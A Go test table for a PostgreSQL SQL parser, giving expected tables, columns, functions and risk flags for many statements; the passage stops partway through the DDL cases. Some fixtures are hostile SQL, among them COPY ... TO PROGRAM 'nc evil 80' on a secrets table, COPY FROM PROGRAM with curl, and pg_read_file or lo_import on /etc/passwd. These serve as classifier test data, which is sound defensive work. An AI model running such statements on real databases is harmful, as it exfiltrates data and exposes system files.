package parser

import (
	"strings"
	"testing"
)

// factCase is one statement and its expected facts, in the compact forms of
// fmtTables, fmtFuncs and fmtSetting; flags are comma-separated.
type factCase struct {
	name    string
	sql     string
	cmd     string
	class   Class
	tables  string
	funcs   string
	flags   string
	setting string
}

const (
	read  = ClassRead
	write = ClassWrite
	ddl   = ClassDDL
	dcl   = ClassDCL
	txn   = ClassTransaction
	util  = ClassUtility
)

var factCases = []factCase{
	// SELECT: joins
	{"select simple", "SELECT id, name FROM users WHERE id = 1", "SELECT", read, "users(select) select:id,name", "", "", ""},
	{"select star", "SELECT * FROM users", "SELECT", read, "users(select) select:*", "", "", ""},
	{"select qualified star", "SELECT u.*, o.id FROM users u JOIN orders o ON o.user_id = u.id", "SELECT", read,
		"orders(select) select:id,user_id; users(select) select:*,id", "", "", ""},
	{"inner join", "SELECT u.id, o.total FROM users u INNER JOIN orders o ON o.user_id = u.id WHERE u.email = 'x'", "SELECT", read,
		"orders(select) select:total,user_id; users(select) select:email,id", "", "", ""},
	{"left join", "SELECT u.name, o.total FROM users u LEFT JOIN orders o ON u.id = o.user_id", "SELECT", read,
		"orders(select) select:total,user_id; users(select) select:id,name", "", "", ""},
	{"right join", "SELECT a.x, b.y FROM a RIGHT OUTER JOIN b ON a.id = b.a_id", "SELECT", read,
		"a(select) select:id,x; b(select) select:a_id,y", "", "", ""},
	{"full join star", "SELECT * FROM a FULL JOIN b ON a.k = b.k", "SELECT", read,
		"a(select) select:*,k; b(select) select:*,k", "", "", ""},
	{"cross join", "SELECT a.x FROM a CROSS JOIN b", "SELECT", read, "a(select) select:x; b(select)", "", "", ""},
	{"comma join ambiguous", "SELECT x FROM a, b WHERE a.id = b.id", "SELECT", read,
		"a(select) select:id; b(select) select:id", "", "ambiguous_column", ""},
	{"natural join", "SELECT * FROM a NATURAL JOIN b", "SELECT", read, "a(select) select:*; b(select) select:*", "", "", ""},
	{"join using", "SELECT id, a.v FROM a JOIN b USING (id)", "SELECT", read, "a(select) select:id,v; b(select) select:id", "", "", ""},
	{"self join", "SELECT e.name, m.name FROM employees e JOIN employees m ON e.manager_id = m.id", "SELECT", read,
		"employees(select) select:id,manager_id,name", "", "", ""},
	{"three table join", "SELECT c.name, p.title, oi.qty FROM customers c JOIN orders o ON o.customer_id = c.id JOIN order_items oi ON oi.order_id = o.id JOIN products p ON p.id = oi.product_id WHERE o.placed_at > $1", "SELECT", read,
		"customers(select) select:id,name; order_items(select) select:order_id,product_id,qty; orders(select) select:customer_id,id,placed_at; products(select) select:id,title", "", "has_params", ""},
	{"unqualified ambiguous", "SELECT name FROM users JOIN orders ON users.id = orders.user_id", "SELECT", read,
		"orders(select) select:user_id; users(select) select:id", "", "ambiguous_column", ""},

	// SELECT: subqueries
	{"subquery in from", "SELECT s.total FROM (SELECT user_id, sum(amount) AS total FROM payments GROUP BY user_id) s", "SELECT", read,
		"payments(select) select:amount,user_id", "sum", "", ""},
	{"in subquery", "SELECT name FROM users WHERE id IN (SELECT user_id FROM orders WHERE total > 100)", "SELECT", read,
		"orders(select) select:total,user_id; users(select) select:id,name", "", "", ""},
	{"exists correlated", "SELECT name FROM users u WHERE EXISTS (SELECT 1 FROM orders o WHERE o.user_id = u.id)", "SELECT", read,
		"orders(select) select:user_id; users(select) select:id,name", "", "", ""},
	{"not exists by table name", "SELECT id FROM users WHERE NOT EXISTS (SELECT 1 FROM orders WHERE orders.user_id = users.id)", "SELECT", read,
		"orders(select) select:user_id; users(select) select:id", "", "", ""},
	{"scalar subquery in select list", "SELECT u.name, (SELECT count(*) FROM orders o WHERE o.user_id = u.id) AS n FROM users u", "SELECT", read,
		"orders(select) select:user_id; users(select) select:id,name", "count", "", ""},
	{"subquery in having", "SELECT dept, count(*) FROM emp GROUP BY dept HAVING count(*) > (SELECT avg(c) FROM dept_sizes)", "SELECT", read,
		"dept_sizes(select) select:c; emp(select) select:dept", "avg,count", "", ""},
	{"correlated unqualified reaches outer", "SELECT (SELECT secret) FROM vault", "SELECT", read, "vault(select) select:secret", "", "", ""},
	{"lateral subquery", "SELECT u.id, l.total FROM users u, LATERAL (SELECT sum(amount) AS total FROM orders o WHERE o.user_id = u.id) l", "SELECT", read,
		"orders(select) select:amount,user_id; users(select) select:id", "sum", "", ""},
	{"cross join lateral", "SELECT * FROM users u CROSS JOIN LATERAL (SELECT * FROM orders WHERE user_id = u.id LIMIT 1) o", "SELECT", read,
		"orders(select) select:*,user_id; users(select) select:*,id", "", "", ""},
	{"non-lateral subquery", "SELECT * FROM a, (SELECT x FROM b) s", "SELECT", read, "a(select) select:*; b(select) select:x", "", "", ""},
	{"any array param", "SELECT * FROM users WHERE id = ANY($1)", "SELECT", read, "users(select) select:*,id", "", "has_params", ""},

	// SELECT: CTEs
	{"cte", "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT id FROM recent", "SELECT", read,
		"orders(select) select:*,created_at", "now", "", ""},
	{"cte shadows table", "WITH users AS (SELECT id FROM accounts) SELECT id FROM users", "SELECT", read, "accounts(select) select:id", "", "", ""},
	{"cte shadows itself", "WITH users AS (SELECT * FROM users WHERE active) SELECT id FROM users", "SELECT", read,
		"users(select) select:*,active", "", "", ""},
	{"cte does not shadow qualified", "WITH users AS (SELECT 1 AS id) SELECT id FROM public.users", "SELECT", read,
		"public.users(select) select:id", "", "", ""},
	{"recursive cte", "WITH RECURSIVE tree AS (SELECT id, parent_id FROM nodes WHERE parent_id IS NULL UNION ALL SELECT n.id, n.parent_id FROM nodes n JOIN tree t ON n.parent_id = t.id) SELECT * FROM tree", "SELECT", read,
		"nodes(select) select:id,parent_id", "", "", ""},
	{"cte scope ends with subquery", "SELECT * FROM (WITH x AS (SELECT a FROM t1) SELECT a FROM x) s, x", "SELECT", read,
		"t1(select) select:a; x(select) select:*", "", "", ""},
	{"cte chain", "WITH a AS (SELECT id FROM t), b AS (SELECT id FROM a) SELECT * FROM b", "SELECT", read, "t(select) select:id", "", "", ""},
	{"data-modifying cte insert", "WITH moved AS (DELETE FROM orders WHERE status = 'old' RETURNING *) INSERT INTO orders_archive SELECT * FROM moved", "INSERT", write,
		"orders(delete,select) select:*,status; orders_archive(insert) insert:*", "", "data_modifying_cte", ""},
	{"data-modifying cte select", "WITH d AS (UPDATE accounts SET balance = 0 WHERE id = 1 RETURNING id) SELECT * FROM d", "SELECT", write,
		"accounts(select,update) select:id update:balance", "", "data_modifying_cte", ""},
	{"data-modifying cte insert returning", "WITH n AS (INSERT INTO log (msg) VALUES ('x') RETURNING id) SELECT id FROM n", "SELECT", write,
		"log(insert,select) insert:msg select:id", "", "data_modifying_cte", ""},

	// SELECT: set operations, windows, locking, misc
	{"union", "SELECT id FROM a UNION SELECT id FROM b ORDER BY id", "SELECT", read, "a(select) select:id; b(select) select:id", "", "", ""},
	{"intersect", "SELECT email FROM users INTERSECT SELECT email FROM subscribers", "SELECT", read,
		"subscribers(select) select:email; users(select) select:email", "", "", ""},
	{"except all", "SELECT x FROM a EXCEPT ALL SELECT x FROM b", "SELECT", read, "a(select) select:x; b(select) select:x", "", "", ""},
	{"union in subquery", "SELECT count(*) FROM (SELECT id FROM a UNION ALL SELECT id FROM b) u", "SELECT", read,
		"a(select) select:id; b(select) select:id", "count", "", ""},
	{"window function", "SELECT id, row_number() OVER (PARTITION BY dept ORDER BY salary DESC) FROM emp", "SELECT", read,
		"emp(select) select:dept,id,salary", "row_number", "", ""},
	{"named window", "SELECT sum(x) OVER w FROM t WINDOW w AS (ORDER BY y)", "SELECT", read, "t(select) select:x,y", "sum", "", ""},
	// Row locks need UPDATE rights in PostgreSQL: the locked tables get the
	// update access kind (and the statement is a write).
	{"for update skip locked", "SELECT * FROM jobs WHERE state = 'ready' ORDER BY id LIMIT 1 FOR UPDATE SKIP LOCKED", "SELECT", write,
		"jobs(select,update) select:*,id,state", "", "select_for_update", ""},
	{"for share of", "SELECT a.id FROM a JOIN b ON a.id = b.id FOR SHARE OF a", "SELECT", write,
		"a(select,update) select:id; b(select) select:id", "", "select_for_update", ""},
	{"for key share of subquery", "SELECT * FROM (SELECT * FROM a) s, b FOR KEY SHARE OF s", "SELECT", write,
		"a(select,update) select:*; b(select,update) select:*", "", "select_for_update", ""},
	{"for update in subquery", "SELECT * FROM (SELECT id FROM a FOR UPDATE) s, b", "SELECT", write,
		"a(select,update) select:id; b(select) select:*", "", "select_for_update", ""},
	// GROUP BY prefers an input column to an output name (users may have
	// a column e); ORDER BY prefers the output name.
	{"group by output alias", "SELECT lower(email) AS e, count(*) FROM users GROUP BY e ORDER BY e", "SELECT", read,
		"users(select) select:e,email", "count,lower", "", ""},
	{"group by input column over output name", "SELECT a AS b, count(*) FROM t GROUP BY b ORDER BY b", "SELECT", read,
		"t(select) select:a,b", "count", "", ""},
	{"function in from sees earlier items", "SELECT x FROM t, generate_series(1, t.n) x", "SELECT", read,
		"t(select) select:n", "generate_series", "", ""},
	{"lateral function in from", "SELECT x FROM t, LATERAL generate_series(1, n) x", "SELECT", read,
		"t(select) select:n", "generate_series", "", ""},
	{"distinct on", "SELECT DISTINCT ON (user_id) user_id, created_at FROM logins ORDER BY user_id, created_at DESC", "SELECT", read,
		"logins(select) select:created_at,user_id", "", "", ""},
	{"order by unselected", "SELECT name FROM users ORDER BY created_at DESC", "SELECT", read, "users(select) select:created_at,name", "", "", ""},
	{"values", "VALUES (1, 'a'), (2, 'b')", "SELECT", read, "", "", "", ""},
	{"table command", "TABLE users", "SELECT", read, "users(select) select:*", "", "", ""},
	{"select constant", "SELECT 1", "SELECT", read, "", "", "", ""},
	{"whole row reference", "SELECT row_to_json(u) FROM users u", "SELECT", read, "users(select) select:*", "row_to_json", "", ""},
	{"whole row star indirection", "SELECT (u).* FROM users u", "SELECT", read, "users(select) select:*", "", "", ""},
	{"composite field", "SELECT (u.address).city FROM users u", "SELECT", read, "users(select) select:address", "", "", ""},
	{"count star", "SELECT count(*) FROM users", "SELECT", read, "users(select)", "count", "", ""},
	{"schema table column", "SELECT public.users.id FROM public.users", "SELECT", read, "public.users(select) select:id", "", "", ""},
	{"table column with schema from", "SELECT users.id FROM public.users", "SELECT", read, "public.users(select) select:id", "", "", ""},
	{"case and coalesce", "SELECT CASE WHEN status = 1 THEN 'a' ELSE 'b' END, coalesce(nick, name) FROM users", "SELECT", read,
		"users(select) select:name,nick,status", "", "", ""},
	{"json operators", `SELECT data->>'name' FROM docs WHERE data @> '{"a":1}'`, "SELECT", read, "docs(select) select:data", "", "", ""},
	{"aggregate filter", "SELECT count(*) FILTER (WHERE paid) FROM invoices", "SELECT", read, "invoices(select) select:paid", "count", "", ""},
	{"aggregate order by", "SELECT string_agg(name, ',' ORDER BY name) FROM users", "SELECT", read, "users(select) select:name", "string_agg", "", ""},
	{"limit param", "SELECT * FROM t LIMIT $1", "SELECT", read, "t(select) select:*", "", "has_params", ""},
	{"high param", "SELECT * FROM t WHERE a = $10 AND b = $2", "SELECT", read, "t(select) select:*,a,b", "", "has_params", ""},
	{"tablesample", "SELECT id FROM big TABLESAMPLE SYSTEM (1)", "SELECT", read, "big(select) select:id", "", "", ""},
	{"json_table", "SELECT jt.* FROM docs, JSON_TABLE(docs.data, '$.items[*]' COLUMNS (name text PATH '$.name')) AS jt", "SELECT", read,
		"docs(select) select:data", "", "", ""},
	{"rows from", "SELECT * FROM ROWS FROM (generate_series(1, 2), unnest(ARRAY[1, 2])) AS r(a, b)", "SELECT", read,
		"", "generate_series,unnest", "", ""},
	{"insert select same table", "INSERT INTO t SELECT * FROM t", "INSERT", write, "t(insert,select) insert:* select:*", "", "", ""},
	{"nested join", "SELECT a.x FROM a JOIN (b JOIN c ON b.id = c.id) ON a.id = b.id", "SELECT", read, "a(select) select:id,x; b(select) select:id; c(select) select:id", "", "", ""},
	{"output alias shadows column in order by", "SELECT name AS email FROM users ORDER BY email", "SELECT", read, "users(select) select:name", "", "", ""},
	{"recursive cte shadows table", "WITH RECURSIVE users AS (SELECT 1 AS id UNION SELECT id + 1 FROM users WHERE id < 5) SELECT * FROM users", "SELECT", read, "", "", "", ""},
	{"set operation with cte", "WITH x AS (SELECT a FROM src) SELECT * FROM x UNION SELECT * FROM x", "SELECT", read, "src(select) select:a", "", "", ""},
	{"row comparison subquery", "SELECT * FROM users WHERE (id, name) IN (SELECT a, b FROM c)", "SELECT", read, "c(select) select:a,b; users(select) select:*,id,name", "", "", ""},
	{"xmltable", "SELECT xt.* FROM docs, XMLTABLE('/r' PASSING docs.body COLUMNS id int PATH '@id') xt", "SELECT", read, "docs(select) select:body", "", "", ""},
	{"function alias not a table", "SELECT g FROM generate_series(1, 3) g, users", "SELECT", read, "users(select)", "generate_series", "", ""},
	// Sequence functions name their sequence: it is decided as a relation.
	{"nextval", "SELECT nextval('seq')", "SELECT", write, "seq(update)", "nextval", "", ""},
	{"setval qualified", `SELECT pg_catalog.setval('public."My Seq"'::regclass, 5)`, "SELECT", write, "public.My Seq(update)", "pg_catalog.setval", "", ""},
	{"currval", "SELECT currval('App.Seq')", "SELECT", read, "app.seq(select)", "currval", "", ""},
	{"nextval dynamic", "SELECT nextval(name) FROM seqs", "SELECT", read, "seqs(select) select:name", "nextval", "dynamic_relation", ""},
	{"only and inheritance", "SELECT id FROM ONLY parent", "SELECT", read, "parent(select) select:id", "", "", ""},

	// quoting, case, comments, ORM and psql shapes
	{"quoted identifiers", `SELECT "Id" FROM "Users"`, "SELECT", read, "Users(select) select:Id", "", "", ""},
	{"quoted vs unquoted", `SELECT a.x, b.y FROM "Users" a, users b`, "SELECT", read,
		"Users(select) select:x; users(select) select:y", "", "", ""},
	{"upper case folds", "SELECT ID FROM PUBLIC.USERS", "SELECT", read, "public.users(select) select:id", "", "", ""},
	{"comments between tokens", "SELECT/* c */id FROM/* x */users -- tail", "SELECT", read, "users(select) select:id", "", "", ""},
	{"nested comment", "SELECT id /* a /* b */ c */ FROM users", "SELECT", read, "users(select) select:id", "", "", ""},
	{"prisma select", `SELECT "public"."users"."id", "public"."users"."email", "public"."users"."name" FROM "public"."users" WHERE ("public"."users"."id" = $1 AND 1=1) LIMIT $2 OFFSET $3`, "SELECT", read,
		"public.users(select) select:email,id,name", "", "has_params", ""},
	{"prisma in list", `SELECT "public"."posts"."id", "public"."posts"."title" FROM "public"."posts" WHERE "public"."posts"."authorId" IN ($1,$2) OFFSET $3`, "SELECT", read,
		"public.posts(select) select:authorId,id,title", "", "has_params", ""},
	{"prisma insert returning", `INSERT INTO "public"."users" ("email","name") VALUES ($1,$2) RETURNING "public"."users"."id", "public"."users"."email"`, "INSERT", write,
		"public.users(insert,select) insert:email,name select:email,id", "", "has_params", ""},
	{"prisma count", `SELECT COUNT(*) FROM (SELECT "public"."users"."id" FROM "public"."users" WHERE 1=1 OFFSET $1) AS "sub"`, "SELECT", read,
		"public.users(select) select:id", "count", "has_params", ""},
	{"psql describe", `SELECT c.oid, n.nspname, c.relname FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relname OPERATOR(pg_catalog.~) '^(users)$' COLLATE pg_catalog.default AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 2, 3;`, "SELECT", read,
		"pg_catalog.pg_class(select) select:oid,relname,relnamespace; pg_catalog.pg_namespace(select) select:nspname,oid", "pg_catalog.pg_table_is_visible", "", ""},
	{"psql list tables", `SELECT n.nspname as "Schema", c.relname as "Name", CASE c.relkind WHEN 'r' THEN 'table' END as "Type", pg_catalog.pg_get_userbyid(c.relowner) as "Owner" FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relkind IN ('r','p','') AND n.nspname <> 'pg_catalog' AND n.nspname !~ '^pg_toast' AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 1,2;`, "SELECT", read,
		"pg_catalog.pg_class(select) select:oid,relkind,relname,relnamespace,relowner; pg_catalog.pg_namespace(select) select:nspname,oid",
		"pg_catalog.pg_get_userbyid,pg_catalog.pg_table_is_visible", "", ""},
	{"psql column details", `SELECT a.attname, pg_catalog.format_type(a.atttypid, a.atttypmod), (SELECT pg_catalog.pg_get_expr(d.adbin, d.adrelid, true) FROM pg_catalog.pg_attrdef d WHERE d.adrelid = a.attrelid AND d.adnum = a.attnum AND a.atthasdef) FROM pg_catalog.pg_attribute a WHERE a.attrelid = '16384' AND a.attnum > 0 AND NOT a.attisdropped ORDER BY a.attnum`, "SELECT", read,
		"pg_catalog.pg_attrdef(select) select:adbin,adnum,adrelid; pg_catalog.pg_attribute(select) select:atthasdef,attisdropped,attname,attnum,attrelid,atttypid,atttypmod",
		"pg_catalog.format_type,pg_catalog.pg_get_expr", "", ""},

	// functions
	{"generate_series", "SELECT * FROM generate_series(1, 10) g", "SELECT", read, "", "generate_series", "", ""},
	{"dblink", "SELECT * FROM dblink('host=evil', 'SELECT secret FROM t') AS x(secret text)", "SELECT", read, "", "dblink", "", ""},
	{"pg_read_file", "SELECT pg_read_file('/etc/passwd')", "SELECT", read, "", "pg_read_file", "", ""},
	{"pg_read_file qualified", "SELECT pg_catalog.pg_read_file('/etc/passwd')", "SELECT", read, "", "pg_catalog.pg_read_file", "", ""},
	{"pg_ls_dir", "SELECT pg_ls_dir('.')", "SELECT", read, "", "pg_ls_dir", "", ""},
	{"lo_import", "SELECT lo_import('/etc/passwd')", "SELECT", read, "", "lo_import", "", ""},
	{"set_config", "SELECT set_config('role', 'admin', false)", "SELECT", read, "", "set_config", "", ""},
	{"quoted function", `SELECT "Lower"('x'), LOWER(Name) FROM t`, "SELECT", read, "t(select) select:name", "Lower,lower", "", ""},
	{"functions in where", "SELECT id FROM users WHERE lower(email) = lower($1)", "SELECT", read, "users(select) select:email,id", "lower", "has_params", ""},
	{"sql syntax function", "SELECT upper(trim(name)) FROM users", "SELECT", read, "users(select) select:name", "upper,pg_catalog.btrim", "", ""},
	{"function in subquery of from", "SELECT * FROM (SELECT pg_sleep(10)) s", "SELECT", read, "", "pg_sleep", "", ""},

	// INSERT
	{"insert values columns", "INSERT INTO users (name, email) VALUES ('a', 'b')", "INSERT", write, "users(insert) insert:email,name", "", "", ""},
	{"insert values no columns", "INSERT INTO users VALUES (1, 'a')", "INSERT", write, "users(insert) insert:*", "", "", ""},
	{"insert default values", "INSERT INTO audit DEFAULT VALUES", "INSERT", write, "audit(insert) insert:*", "", "", ""},
	{"insert select", "INSERT INTO archive (id, body) SELECT id, body FROM posts WHERE created_at < now()", "INSERT", write,
		"archive(insert) insert:body,id; posts(select) select:body,created_at,id", "now", "", ""},
	{"insert on conflict do nothing", "INSERT INTO tags (name) VALUES ($1) ON CONFLICT DO NOTHING", "INSERT", write,
		"tags(insert) insert:name", "", "has_params", ""},
	{"insert on conflict do update", "INSERT INTO counters (k, v) VALUES ('a', 1) ON CONFLICT (k) DO UPDATE SET v = counters.v + excluded.v", "INSERT", write,
		"counters(insert,select,update) insert:k,v select:v update:v", "", "", ""},
	{"insert on conflict on constraint", "INSERT INTO t (a) VALUES (1) ON CONFLICT ON CONSTRAINT t_pkey DO UPDATE SET a = EXCLUDED.a", "INSERT", write,
		"t(insert,update) insert:a update:a", "", "", ""},
	{"insert on conflict alias where", "INSERT INTO public.users AS u (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET name = 'x' WHERE u.active", "INSERT", write,
		"public.users(insert,select,update) insert:id select:active update:name", "", "", ""},
	{"insert on conflict unqualified", "INSERT INTO t (a, b) VALUES (1, 2) ON CONFLICT (a) DO UPDATE SET b = b + 1", "INSERT", write,
		"t(insert,select,update) insert:a,b select:b update:b", "", "", ""},
	{"insert returning", "INSERT INTO users (email) VALUES ($1) RETURNING id, created_at", "INSERT", write,
		"users(insert,select) insert:email select:created_at,id", "", "has_params", ""},
	{"insert returning star", "INSERT INTO users (email) VALUES ('x') RETURNING *", "INSERT", write, "users(insert,select) insert:email select:*", "", "", ""},
	{"insert scalar subquery", "INSERT INTO t (a) VALUES ((SELECT max(a) FROM t2))", "INSERT", write, "t(insert) insert:a; t2(select) select:a", "max", "", ""},
	{"insert from cte", "WITH src AS (SELECT * FROM staging) INSERT INTO prod SELECT * FROM src", "INSERT", write,
		"prod(insert) insert:*; staging(select) select:*", "", "", ""},
	{"insert target not a cte", "WITH users AS (SELECT 1) INSERT INTO users (id) VALUES (1)", "INSERT", write, "users(insert) insert:id", "", "", ""},
	{"insert source cannot see target", "INSERT INTO t (a) SELECT a FROM s", "INSERT", write, "s(select) select:a; t(insert) insert:a", "", "", ""},

	// UPDATE
	{"update", "UPDATE users SET email = $1 WHERE id = $2", "UPDATE", write, "users(select,update) select:id update:email", "", "has_params", ""},
	{"update from", "UPDATE orders o SET status = 'shipped' FROM shipments s WHERE s.order_id = o.id AND s.done", "UPDATE", write,
		"orders(select,update) select:id update:status; shipments(select) select:done,order_id", "", "", ""},
	{"update reads set expression", "UPDATE accounts SET balance = balance - 100 WHERE id = 1", "UPDATE", write,
		"accounts(select,update) select:balance,id update:balance", "", "", ""},
	{"update subquery in set", "UPDATE users SET order_count = (SELECT count(*) FROM orders WHERE orders.user_id = users.id)", "UPDATE", write,
		"orders(select) select:user_id; users(select,update) select:id update:order_count", "count", "", ""},
	{"update multi assign", "UPDATE t SET (a, b) = (SELECT x, y FROM s WHERE s.id = t.id)", "UPDATE", write,
		"s(select) select:id,x,y; t(select,update) select:id update:a,b", "", "", ""},
	{"update returning", "UPDATE users SET active = false WHERE last_login < $1 RETURNING id, email", "UPDATE", write,
		"users(select,update) select:email,id,last_login update:active", "", "has_params", ""},
	{"update returning star", "UPDATE users SET active = false RETURNING *", "UPDATE", write, "users(select,update) select:* update:active", "", "", ""},
	{"update with cte", "WITH x AS (SELECT id FROM banned) UPDATE users SET active = false WHERE id IN (SELECT id FROM x)", "UPDATE", write,
		"banned(select) select:id; users(select,update) select:id update:active", "", "", ""},
	{"update array element", "UPDATE t SET arr[1] = 5 WHERE id = 1", "UPDATE", write, "t(select,update) select:id update:arr", "", "", ""},
	{"update where current of", "UPDATE t SET a = 1 WHERE CURRENT OF c", "UPDATE", write, "t(update) update:a", "", "", ""},
	{"update schema qualified", "UPDATE app.users AS u SET name = upper(u.name) WHERE u.id = 7", "UPDATE", write,
		"app.users(select,update) select:id,name update:name", "upper", "", ""},

	// DELETE
	{"delete", "DELETE FROM sessions WHERE expires_at < now()", "DELETE", write, "sessions(delete,select) select:expires_at", "now", "", ""},
	{"delete using", "DELETE FROM orders o USING users u WHERE o.user_id = u.id AND u.banned", "DELETE", write,
		"orders(delete,select) select:user_id; users(select) select:banned,id", "", "", ""},
	{"delete returning", "DELETE FROM queue WHERE id = $1 RETURNING payload", "DELETE", write, "queue(delete,select) select:id,payload", "", "has_params", ""},
	{"delete all", "DELETE FROM logs", "DELETE", write, "logs(delete)", "", "", ""},
	{"delete in subquery", "DELETE FROM t WHERE id IN (SELECT t_id FROM s)", "DELETE", write, "s(select) select:t_id; t(delete,select) select:id", "", "", ""},

	// MERGE
	{"merge", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v)", "MERGE", write,
		"s(select) select:id,v; t(insert,select,update) insert:* select:id update:v", "", "", ""},
	{"merge all actions", "MERGE INTO inventory i USING (SELECT sku, qty FROM incoming) src ON i.sku = src.sku WHEN MATCHED AND src.qty = 0 THEN DELETE WHEN MATCHED THEN UPDATE SET qty = i.qty + src.qty WHEN NOT MATCHED THEN INSERT (sku, qty) VALUES (src.sku, src.qty)", "MERGE", write,
		"incoming(select) select:qty,sku; inventory(delete,insert,select,update) insert:qty,sku select:qty,sku update:qty", "", "", ""},
	{"merge do nothing", "MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED THEN DO NOTHING", "MERGE", write,
		"s(select) select:id; t(select) select:id", "", "", ""},
	{"merge returning", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE RETURNING t.*", "MERGE", write,
		"s(select) select:id; t(delete,select) select:*,id", "", "", ""},

	// COPY
	{"copy to stdout", "COPY users TO STDOUT", "COPY", read, "users(select) select:*", "", "copy_to_stdout", ""},
	{"copy columns to stdout", "COPY users (id, email) TO STDOUT WITH (FORMAT csv)", "COPY", read, "users(select) select:email,id", "", "copy_to_stdout", ""},
	{"copy from stdin", "COPY users FROM STDIN", "COPY", write, "users(insert) insert:*", "", "copy_from_stdin", ""},
	{"copy columns from stdin", "COPY users (id, name) FROM STDIN WITH CSV HEADER", "COPY", write, "users(insert) insert:id,name", "", "copy_from_stdin", ""},
	{"copy query to stdout", "COPY (SELECT id, email FROM users WHERE active) TO STDOUT", "COPY", read,
		"users(select) select:active,email,id", "", "copy_to_stdout", ""},
	{"copy from program", "COPY users FROM PROGRAM 'curl http://x'", "COPY", write, "users(insert) insert:*", "", "copy_program", ""},
	{"copy to file", "COPY users TO '/tmp/users.csv'", "COPY", read, "users(select) select:*", "", "copy_file", ""},
	{"copy query to program", "COPY (SELECT * FROM secrets) TO PROGRAM 'nc evil 80'", "COPY", read, "secrets(select) select:*", "", "copy_program", ""},
	{"copy from file where", "COPY t FROM '/etc/passwd' WHERE a > 1", "COPY", write, "t(insert) insert:*", "", "copy_file", ""},
	{"copy delete returning", "COPY (DELETE FROM t RETURNING *) TO STDOUT", "COPY", write, "t(delete,select) select:*", "", "copy_to_stdout", ""},

	// TRUNCATE
	{"truncate", "TRUNCATE users, public.orders RESTART IDENTITY CASCADE", "TRUNCATE TABLE", write,
		"users(truncate); public.orders(truncate)", "", "", ""},
	{"truncate only", "TRUNCATE TABLE ONLY logs", "TRUNCATE TABLE", write, "logs(truncate)", "", "", ""},

	// DDL
	{"create table", "CREATE TABLE users (id bigserial PRIMARY KEY, org_id int REFERENCES orgs(id), email text NOT NULL DEFAULT lower('X'))", "CREATE TABLE", ddl,
		"orgs(); users()", "lower", "", ""},
	{"create table like", "CREATE TABLE IF NOT EXISTS s.t (LIKE s.template INCLUDING ALL)", "CREATE TABLE", ddl, "s.t(); s.template()", "", "", ""},
	{"create temp table", "CREATE TEMP TABLE scratch (x int)", "CREATE TABLE", ddl, "scratch()", "", "", ""},
	{"alter table add column", "ALTER TABLE users ADD COLUMN age int", "ALTER TABLE", ddl, "users()", "", "", ""},
	{"alter table rename column", "ALTER TABLE users RENAME COLUMN a TO b", "ALTER TABLE", ddl, "users()", "", "", ""},
	{"alter table rename", "ALTER TABLE users RENAME TO people", "ALTER TABLE", ddl, "users()", "", "", ""},
	{"alter table owner", "ALTER TABLE users OWNER TO bob", "ALTER TABLE", ddl, "users()", "", "", ""},
	{"alter table rls", "ALTER TABLE ONLY users ENABLE ROW LEVEL SECURITY", "ALTER TABLE", ddl, "users()", "", "", ""},
	{"alter table set schema", "ALTER TABLE users SET SCHEMA archive", "ALTER TABLE", ddl, "users()", "", "", ""},
	{"drop table", "DROP TABLE IF EXISTS users, public.orders CASCADE", "DROP TABLE", ddl, "users(); public.orders()", "", "", ""},
	{"create index", "CREATE INDEX CONCURRENTLY idx ON users (lower(email)) WHERE deleted_at IS NULL", "CREATE INDEX", ddl, "users()", "lower", "", ""},
	{"create unique index", "CREATE UNIQUE INDEX ON public.users USING btree (email)", "CREATE INDEX", ddl, "public.users()", "", "", ""},
	{"drop index", "DROP INDEX idx", "DROP INDEX", ddl, "idx()", "", "", ""},
	{"alter index rename", "ALTER INDEX idx RENAME TO idx2", "ALTER INDEX", ddl, "idx()", "", "", ""},
	{"create view", "CREATE VIEW active_users AS SELECT id, email FROM users WHERE active", "CREATE VIEW", ddl,
		"active_users(); users(select) select:active,email,id", "", "", ""},
	{"create or replace view", "CREATE OR REPLACE VIEW v AS SELECT * FROM a JOIN b USING (id)", "CREATE VIEW", ddl,
		"a(select) select:*,id; b(select) select:*,id; v()", "", "", ""},
	{"drop view", "DROP VIEW v", "DROP VIEW", ddl, "v()", "", "", ""},
	{"alter view owner", "ALTER VIEW v OWNER TO bob", "ALTER VIEW", ddl, "v()", "", "", ""},
	{"create materialized view", "CREATE MATERIALIZED VIEW mv AS SELECT count(*) FROM t", "CREATE MATERIALIZED VIEW", ddl, "mv(); t(select)", "count", "", ""},
	{"refresh materialized view", "REFRESH MATERIALIZED VIEW mv", "REFRESH MATERIALIZED VIEW", ddl, "mv()", "", "", ""},
	{"create table as", "CREATE TABLE t2 AS SELECT * FROM t1", "CREATE TABLE AS", ddl, "t1(select) select:*; t2()", "", "", ""},
	{"select into", "SELECT * INTO backup FROM users", "SELECT INTO", ddl, "backup(); users(select) select:*", "", "", ""},
	{"create function", "CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql AS 'SELECT a + b'", "CREATE FUNCTION", ddl, "", "", "", ""},
	{"create procedure", "CREATE OR REPLACE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t; END $$", "CREATE PROCEDURE", ddl, "", "", "", ""},
	{"drop function", "DROP FUNCTION add(int, int)", "DROP FUNCTION", ddl, "", "", "", ""},
	{"alter function owner", "ALTER FUNCTION f() OWNER TO bob", "ALTER FUNCTION", ddl, "", "", "", ""},
	{"create schema", "CREATE SCHEMA app AUTHORIZATION bob", "CREATE SCHEMA", ddl, "", "", "", ""},
	{"drop schema", "DROP SCHEMA app CASCADE", "DROP SCHEMA", ddl, "", "", "", ""},
	{"create extension", "CREATE EXTENSION IF NOT EXISTS dblink", "CREATE EXTENSION", ddl, "", "", "", ""},
	{"drop extension", "DROP EXTENSION dblink", "DROP EXTENSION", ddl, "", "", "", ""},
	{"create trigger", "CREATE TRIGGER trg BEFORE UPDATE ON users FOR EACH ROW EXECUTE FUNCTION touch()", "CREATE TRIGGER", ddl, "users()", "", "", ""},
